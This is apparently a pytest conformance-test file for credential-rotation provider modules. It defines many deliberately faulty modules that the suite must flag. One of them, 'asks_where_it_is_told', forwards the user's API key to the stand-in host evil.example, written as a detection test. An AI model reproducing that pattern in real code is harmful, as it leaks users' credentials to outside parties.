"""The conformance suite finds what a module does wrong; each fault here is a real one's."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from rotator.errors import LoginRejected, ProviderUnavailable, RateLimited, UnexpectedAnswer
from rotator.model import Balance, Credential, Finding, Identity, Meaning, Signal, Snapshot, Window
from rotator.provider import HttpAnswer, HttpRequest, IdentityReading, Reading
from rotator.secret import Secret
from rotator.testing import BadCase, Case, UsageCase, broken_rules, drive, read_case, read_cases

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
URL = "https://api.acme.example/usage"
HEAD = {
    "says": "A fifth is used.",
    "source": "https://acme.example/docs",
    "certainty": "H",
    "now": "2026-11-22T12:00:00Z",
    "provider": "acme",
}
ANSWER = {"used": 20, "limit": 100, "reset": 1800, "plan": "pro", "unlimited": False}
WINDOW = {"name": "5h", "used": 0.2, "resets_at": "2026-11-22T12:30:00Z", "length_seconds": 18000}
USAGE = {
    **HEAD,
    "credential": {"type": "api", "key": "KEY-CANARY-acme"},
    "exchange": [{"method": "GET", "url": URL, "status": 200, "body": ANSWER}],
    "expected": {"windows": [WINDOW], "plan": "pro", "balance": None},
}


class Acme:
    """A module that keeps to the contract."""

    ids = ("acme",)
    rotates_tokens = False
    who = Identity()

    def identify(self, _: Credential) -> Identity:
        """Return nobody."""
        return self.who

    def usage_obstacle(self, _: Credential) -> str | None:
        """Return None."""
        return None

    def read_usage(self, credential: Credential, now: datetime) -> Reading:
        """Ask, and read the answer."""
        return self.told((yield self.request(credential)), now)

    def request(self, credential: Credential) -> HttpRequest:
        """Return the question."""
        return HttpRequest("GET", URL, {"authorization": credential.secret})

    def told(self, answer: HttpAnswer, now: datetime) -> Snapshot:
        """Return what an answer says."""
        refuse(answer, now)
        body = parsed(answer)
        if body.get("unlimited") is True:
            return Snapshot(now)
        plan = body.get("plan")
        return Snapshot(
            now,
            (window(body, now),),
            plan=plan if isinstance(plan, str) and plan.isprintable() else None,
        )

    def read_headers(self, headers: Mapping[str, str], now: datetime) -> Snapshot | None:
        """Return the one window."""
        left = headers.get("x-left", "")
        if left not in {"20", "40"}:
            return None
        return Snapshot(now, (Window("5h", 1 - int(left) / 100, None, 18000),))

    def classify(self, signal: Signal, now: datetime) -> Finding | None:
        """Know one code."""
        if signal.status == 429 and '"code": "month_over"' in signal.body:
            return Finding(Meaning.EXHAUSTED, "429, the month is over", now + timedelta(days=8))
        return None


def refuse(answer: HttpAnswer, now: datetime) -> None:
    if answer.status == 401:
        raise LoginRejected("the login is not accepted")
    if answer.status == 429:
        until = {"120": 120, (now + timedelta(seconds=120)).strftime(DATE): 120}
        seconds = until.get(answer.headers.get("retry-after", ""))
        at = None if seconds is None else now + timedelta(seconds=seconds)
        raise RateLimited("asked too often", retry_at=at)
    if answer.status >= 500 or "html" in answer.headers.get("content-type", ""):
        raise ProviderUnavailable("trouble there", sent=True)
    if answer.status != 200:
        raise UnexpectedAnswer(f"status {answer.status}")


DATE = "%a, %d %b %Y %H:%M:%S GMT"


def parsed(answer: HttpAnswer) -> dict[str, Any]:
    try:
        body = json.loads(answer.body.reveal())
    except (ValueError, RecursionError):
        body = None
    if not isinstance(body, dict) or body.get("error"):
        raise UnexpectedAnswer("no object")
    return body


def number(body: dict[str, Any], name: str) -> float:
    value = body.get(name)
    if isinstance(value, bool) or not isinstance(value, int | float) or not 0 <= value < 10**9:
        raise UnexpectedAnswer(f"no usable {name}")
    return value


def window(body: dict[str, Any], now: datetime) -> Window:
    used, limit = number(body, "used"), number(body, "limit")
    if not limit:
        raise UnexpectedAnswer("no usable limit")
    reset = None if body.get("reset") is None else now + timedelta(seconds=number(body, "reset"))
    return Window("5h", min(used / limit, 1), reset, 18000)


@pytest.fixture
def case(tmp_path: Path) -> UsageCase:
    found = written(tmp_path, "usage-normal", USAGE)
    assert isinstance(found, UsageCase)
    return found


def written(folder: Path, name: str, content: object) -> Case:
    path = folder / f"{name}-canary.json"
    path.write_text(json.dumps(content))
    (found,) = (one for one in read_cases(folder) if one.path == path)
    return found


def faulty(**methods: object) -> Acme:
    module: Acme = type("Faulty", (Acme,), methods)()
    return module


def test_a_module_that_keeps_to_the_contract_breaks_no_rule(case: UsageCase) -> None:
    assert broken_rules(Acme(), case) == []


def told(change: Callable[[HttpAnswer, datetime], Snapshot]) -> Acme:
    return faulty(told=lambda _, answer, now: change(answer, now))


def asked(**changes: object) -> Acme:
    good = HttpRequest("GET", URL, {"authorization": Secret("KEY-CANARY-acme")})
    return faulty(request=lambda *_: replace(good, **changes))  # type: ignore[arg-type]  # on purpose


def only_good(answer: HttpAnswer, now: datetime) -> dict[str, Any]:
    refuse(answer, now)
    return parsed(answer)


def endless(self: Acme, credential: Credential, _: datetime) -> Reading:
    while True:
        yield self.request(credential)


def asks_where_it_is_told(self: Acme, credential: Credential, now: datetime) -> Reading:
    answer = yield self.request(credential)
    body = only_good(answer, now)
    if isinstance(body.get("plan"), str) and body["plan"].startswith("https"):
        yield HttpRequest("GET", "https://evil.example/x", {"authorization": credential.secret})
    return self.told(answer, now)


def asks_once_more(self: Acme, credential: Credential, now: datetime) -> Reading:
    answer = yield self.request(credential)
    yield HttpRequest("GET", f"{URL}/more", {"authorization": credential.secret})
    return self.told(answer, now)


def guesses_zero(answer: HttpAnswer, now: datetime) -> Snapshot:
    body = only_good(answer, now)
    used = body.get("used")
    return Snapshot(now, (window({**body, "used": used if isinstance(used, int) else 0}, now),))


def spends_what_is_not_there(answer: HttpAnswer, now: datetime) -> Snapshot:
    if only_good(answer, now).get("used") is None:
        return Snapshot(now, spent=True)
    return Acme().told(answer, now)


def quotes(answer: HttpAnswer, now: datetime) -> Snapshot:
    if answer.status != 200:
        raise UnexpectedAnswer(answer.body.reveal())
    return Acme().told(answer, now)


def quotes_in_the_chain(answer: HttpAnswer, now: datetime) -> Snapshot:
    try:
        int(answer.body.reveal())
    except ValueError as exc:
        if answer.status != 200:
            raise UnexpectedAnswer("no") from exc
    return Acme().told(answer, now)


def knows_all_fields(answer: HttpAnswer, now: datetime) -> Snapshot:
    if set(only_good(answer, now)) - set(ANSWER):
        raise UnexpectedAnswer("unknown fields")
    return Acme().told(answer, now)


def shows(answer: HttpAnswer, now: datetime) -> Snapshot:
    return replace(Acme().told(answer, now), plan=only_good(answer, now).get("plan"))


def rejects(answer: HttpAnswer, now: datetime) -> Snapshot:
    if answer.status >= 400:
        raise LoginRejected("no")
    return Acme().told(answer, now)


def never_sent(answer: HttpAnswer, now: datetime) -> Snapshot:
    if answer.status >= 500:
        raise ProviderUnavailable("no", sent=False)
    return Acme().told(answer, now)


def has_no_time(answer: HttpAnswer, now: datetime) -> Snapshot:
    if answer.status == 429:
        raise RateLimited("no")
    return Acme().told(answer, now)


def takes_anything(answer: HttpAnswer, now: datetime) -> Snapshot:
    try:
        return Acme().told(answer, now)
    except UnexpectedAnswer:
        return Snapshot(now)


def changed(**fields: object) -> Acme:
    def change(answer: HttpAnswer, now: datetime) -> Snapshot:
        return replace(Acme().told(answer, now), **fields)  # type: ignore[arg-type]  # on purpose

    return told(change)


def windowed(**fields: object) -> Acme:
    one = replace(Window("5h", 0.2, None, 18000), **fields)  # type: ignore[arg-type]  # on purpose
    return changed(windows=(one,))


FAULTS = {
    "another result": (changed(plan="free"), "plan is 'free', not 'pro'"),
    "another number": (windowed(used=0.3), "used of the window 5h is 0.3, not 0.2"),
    "no window": (changed(windows=()), "the windows are [], not ['5h']"),
    "a balance": (changed(balance=Balance(Decimal(1), "USD")), "balance is Balance("),
    "another identity": (changed(identity=Identity("k")), "identity.key is 'k', not None"),
    "a refusal": (faulty(usage_obstacle=lambda *_: "no"), "cannot be asked for: no"),
    "an error": (told(lambda *_: parsed(HttpAnswer(200, {}, Secret("")))), "not a Snapshot"),  # type: ignore[arg-type]  # raises
    "none": (told(lambda *_: None), "NoneType instead of a Snapshot"),  # type: ignore[arg-type]  # on purpose
    "http": (asked(url="http://api.acme.example/usage"), "not to an https address"),
    "a space": (asked(url=f"{URL}?a b"), "an address that is not quoted"),
    "the key in the address": (asked(url=f"{URL}?key=KEY-CANARY-acme"), "outside of a Secret"),
    "the key as a text": (
        asked(headers={"authorization": "Bearer KEY-CANARY-acme"}),
        "outside of a Secret",
    ),
    "no key": (asked(headers={}), "carries no credential in a Secret"),
    "a number as a header": (asked(headers={"x": 5}), "neither a text nor a Secret"),
    "a POST of nothing": (asked(method="POST"), "neither a GET without a body nor a POST"),
    "endless": (faulty(read_usage=endless), "NeedlessRequest"),
    "another host": (faulty(read_usage=asks_where_it_is_told), "evil.example"),
    "once more": (faulty(read_usage=asks_once_more), "NeedlessRequest"),
    "a guess": (told(guesses_zero), "used gone at request 1: the window 5h claims 0.00"),
    "a quote": (told(quotes), "what the vendor's server wrote"),
    "a quote behind": (told(quotes_in_the_chain), "what the vendor's server wrote"),
    "all fields": (told(knows_all_fields), "with unknown fields at request 1: another result"),
    "a hostile text": (told(shows), "a text of the plan or the identity is not clean"),
    "rejects": (told(rejects), "a 503 at request 1: it gives LoginRejected, not Provider"),
    "never sent": (told(never_sent), "says that nothing was sent"),
    "no time": (told(has_no_time), "retry_at is None, not 2026-11-22 12:02:00+00:00"),
    "anything": (told(takes_anything), "an empty answer at request 1: a Snapshot is made of it"),
    "unparsed": (
        told(lambda answer, now: Snapshot(now, (window(json.loads(answer.body.reveal()), now),))),
        "an empty answer at request 1: JSONDecodeError at",
    ),
    "too much": (windowed(used=1.5), "is used outside of 0 to 1"),
    "no number": (windowed(used=float("nan")), "is used outside of 0 to 1"),
    "a flag": (windowed(used=True), "is used by what is no number"),
    "no zone": (windowed(resets_at=NOW.replace(tzinfo=None)), "resets at a time that is not in"),
    "far away": (windowed(resets_at=NOW + timedelta(days=999)), "more than a year away"),
    "a slot": (windowed(length_seconds=604800), "has a length that is called 7d"),
    "a day": (windowed(length_seconds=86400), "has a length that is called day"),
    "a month": (windowed(length_seconds=2592000), "has a length that is called month"),
    "no length": (windowed(length_seconds=0), "has no possible length"),
    "no name": (windowed(name=""), "a window's name or model is empty"),
    "twice": (changed(windows=(Window("5h", 0.2),) * 2), "two windows have one name"),
    "another time": (changed(read_at=NOW - timedelta(1)), "read_at is not the time"),
    "odd money": (changed(balance=Balance(Decimal("NaN"), "USD")), "not a finite Decimal"),
    "an odd key": (changed(identity=Identity(5)), "the identity's key or group is no text"),  # type: ignore[arg-type]  # on purpose
    "spent": (told(spends_what_is_not_there), "used gone at request 1: it claims that nothing"),
    "a secret": (faulty(who=Identity("KEY-CANARY-acme")), "its identity shows a secret"),
}


@pytest.mark.parametrize(("module", "sentence"), FAULTS.values(), ids=list(FAULTS))
def test_a_fault_is_found(case: UsageCase, module: Acme, sentence: str) -> None:
    found = broken_rules(module, case)

    assert any(sentence in one for one in found), found


def test_an_error_that_is_documented_names_its_field(tmp_path: Path) -> None:
    refused = {"error": "UnexpectedAnswer", "field": "limit"}
    step = {"method": "GET", "url": URL, "status": 200, "body": {**ANSWER, "limit": None}}
    case = written(tmp_path, "usage-odd", {**USAGE, "exchange": [step], "expected": refused})
    silent = told(lambda *_: refuse(HttpAnswer(404, {}, Secret("")), NOW))  # type: ignore[arg-type]  # raises

    assert broken_rules(Acme(), case) == []
    assert "does not name limit (status 404)" in broken_rules(silent, case)[0]
    assert "gives a Snapshot, not UnexpectedAnswer" in broken_rules(changed_to_any(), case)[0]


def changed_to_any() -> Acme:
    return told(lambda _, now: Snapshot(now))


NAMED = {
    **HEAD,
    "credential": {"type": "api", "key": "KEY-CANARY-acme"},
    "exchange": [{"method": "GET", "url": URL, "status": 200, "body": {"user": "u1", "mail": "a"}}],
    "expected": {"key": "u1", "label": "a"},
}


class Naming(Acme):
    """A module whose vendor says whose a login is."""

    asks_only_in_doubt = False
    requests = 1

    def identity_obstacle(self, _: Credential) -> str | None:
        """Return None."""
        return None

    def read_identity(self, credential: Credential, now: datetime) -> IdentityReading:
        """Ask, and read the answer."""
        for _ in range(self.requests - 1):
            yield self.request(credential)
        answer = yield self.request(credential)
        refuse(answer, now)
        return self.owner(parsed(answer))

    def owner(self, body: dict[str, Any]) -> Identity:
        """Return whom an answer names."""
        if not isinstance(body.get("user"), str) or not body["user"]:
            raise UnexpectedAnswer("no usable user")
        mail = body.get("mail")
        shown = mail if isinstance(mail, str) and mail and mail.isprintable() else None
        return Identity(body["user"], shown)


def naming(**methods: object) -> Naming:
    module: Naming = type("Faulty", (Naming,), methods)()
    return module


OWNERS = {
    "another owner": (naming(owner=lambda *_: Identity("u2", "a")), "identity.key is 'u2'"),
    "no label": (naming(owner=lambda *_: Identity("u1")), "identity.label is None, not 'a'"),
    "a group": (naming(owner=lambda *_: Identity("u1", "a", group="g")), "identity.group is 'g'"),
    "nobody": (naming(owner=lambda *_: Identity(None, "a")), "TypeError"),
    "nothing": (naming(owner=lambda *_: None), "TypeError"),
    "a guess": (
        naming(owner=lambda _, body: Identity(str(body.get("user") or "someone"), "a")),
        "user gone at request 1: it names another owner",
    ),
    "a refusal": (naming(identity_obstacle=lambda *_: "no"), "nobody can be asked whose it is: no"),
    "three requests": (naming(requests=3), "NeedlessRequest"),
    "any time": (naming(asks_only_in_doubt=None), "asks_only_in_doubt is no truth value"),
    "a secret": (naming(who=Identity("KEY-CANARY-acme")), "its identity shows a secret"),
}


def test_a_module_that_says_whose_a_login_is_breaks_no_rule(tmp_path: Path) -> None:
    assert broken_rules(Naming(), written(tmp_path, "identity-normal", NAMED)) == []


@pytest.mark.parametrize(("module", "sentence"), OWNERS.values(), ids=list(OWNERS))
def test_a_wrong_owner_is_found(tmp_path: Path, module: Naming, sentence: str) -> None:
    found = broken_rules(module, written(tmp_path, "identity-normal", NAMED))

    assert any(sentence in one for one in found), found


def test_whose_a_login_is_takes_two_requests_at_most(tmp_path: Path) -> None:
    steps = NAMED["exchange"] * 3  # type: ignore[operator]  # a list
    case = written(tmp_path, "identity-thrice", {**NAMED, "exchange": steps})

    assert any("more than 2 requests" in one for one in broken_rules(naming(requests=3), case))


def test_what_is_documented_is_asked_for(tmp_path: Path) -> None:
    step = {"method": "GET", "url": URL, "status": 200, "body": ANSWER}
    case = written(tmp_path, "usage-two", {**USAGE, "exchange": [step, step]})

    assert "does not ask for everything" in broken_rules(Acme(), case)[0]


def guessed(left: str | None, now: datetime) -> Snapshot:
    return Snapshot(now, (Window("5h", 0.8 if left else 0.0, None, 18000),))


def test_a_module_that_reads_no_usage_or_headers_is_told_so(
    case: UsageCase, tmp_path: Path
) -> None:
    content: dict[str, object] = {**HEAD, "headers": {}, "expected": None}
    headers = written(tmp_path, "headers-none", content)
    owner = written(tmp_path, "identity-normal", NAMED)

    assert broken_rules(object(), owner) == ["it is no IdentityReader"]
    assert broken_rules(object(), case) == ["it is no UsageReader"]
    assert broken_rules(object(), headers) == ["it is no HeaderReader"]


def test_headers_are_read_as_they_are_documented(tmp_path: Path) -> None:
    window = {"name": "5h", "used": 0.8, "length_seconds": 18000}
    content = {**HEAD, "headers": {"x-left": "20"}, "expected": {"windows": [window]}}
    case = written(tmp_path, "headers-normal", content)
    nothing = written(tmp_path, "headers-none", {**HEAD, "headers": {}, "expected": None})
    guessing = faulty(read_headers=lambda _, found, now: guessed(found.get("x-left"), now))
    raising = faulty(read_headers=lambda _, found, now: guessed(found["x-left"], now))

    assert [broken_rules(Acme(), one) for one in (case, nothing)] == [[], []]
    assert any("x-left gone: the window 5h claims 0.00" in s for s in broken_rules(guessing, case))
    assert any("x-left gone: KeyError" in s for s in broken_rules(raising, case))
    assert "gives a Snapshot" in broken_rules(guessing, nothing)[0]


def test_an_error_means_what_is_documented(tmp_path: Path) -> None:
    body = {"error": {"code": "month_over", "message": "Try again"}}
    expected = {"meaning": "exhausted", "until": "2026-11-30T12:00:00Z"}
    content = {**HEAD, "status": 429, "headers": {}, "body": body, "expected": expected}
    case = written(tmp_path, "error-month", content)
    general = faulty(classify=lambda *_: None)
    quoting = faulty(classify=lambda _, signal, *__: Finding(Meaning.BILLING, signal.body))
    raising = faulty(classify=lambda _, signal, *__: json.loads(signal.body))

    assert broken_rules(Acme(), case) == []
    assert "it means short_limit" in broken_rules(general, case)[0]
    assert any("shows what the vendor's server wrote" in s for s in broken_rules(quoting, case))
    with pytest.raises(AttributeError):
        broken_rules(raising, case)


def test_answers_are_given_in_turn() -> None:
    answer = HttpAnswer(200, {}, Secret(json.dumps(ANSWER)))
    credential = Credential("api", Secret("{}"), Secret("KEY-CANARY-acme"), "d")  # type: ignore[arg-type]  # any

    fine, short = (drive(Acme().read_usage(credential, NOW), a) for a in ([answer], []))
    many = drive(endless(Acme(), credential, NOW), [answer] * 9)

    assert fine.snapshot is not None
    assert str(short).startswith("NeedlessRequest")
    assert (str(many), len(many.requests)) == ("more than 6 requests", 7)


@pytest.mark.parametrize(
    ("name", "change", "why"),
    [
        ("usage-a", {"expcted": {}}, "unknown fields"),
        ("usage-a", {"expected": {"windows": [{**WINDOW, "use": 1}]}}, "unknown fields"),
        ("usage-a", {"expected": {"error": "KeyError"}}, "error is none of"),
        ("usage-a", {"certainty": "X"}, "certainty is H, M or L"),
        ("usage-a", {"source": "a friend"}, "source an https address"),
        ("usage-a", {"now": "2026-11-22T12:00:00"}, "has no zone"),
        ("usage-a", {"exchange": []}, "exchange is empty"),
        ("usage-a", {"credential": {"type": "api"}}, "key is not a text"),
        ("headers-a", {"headers": {"X-Left": "1"}}, "the name in lower case"),
        ("identity-a", {"expected": {"label": "a"}}, "KeyError"),
        ("identity-a", {"expected": {"key": None}}, "whoever is named has a key"),
        ("identity-a", {"expected": {"key": "a", "plan": "b"}}, "unknown fields"),
    ],
)
def test_a_case_that_would_test_nothing_is_refused(
    tmp_path: Path, name: str, change: dict[str, object], why: str
) -> None:
    headers: dict[str, object] = {**HEAD, "headers": {}, "expected": None}
    usual = {"usage": USAGE, "identity": NAMED}.get(name.partition("-")[0], headers)
    content = {**usual, **change}
    path = tmp_path / f"{name}-canary.json"
    path.write_text(json.dumps(content))

    with pytest.raises(BadCase, match=why):
        read_case(path)
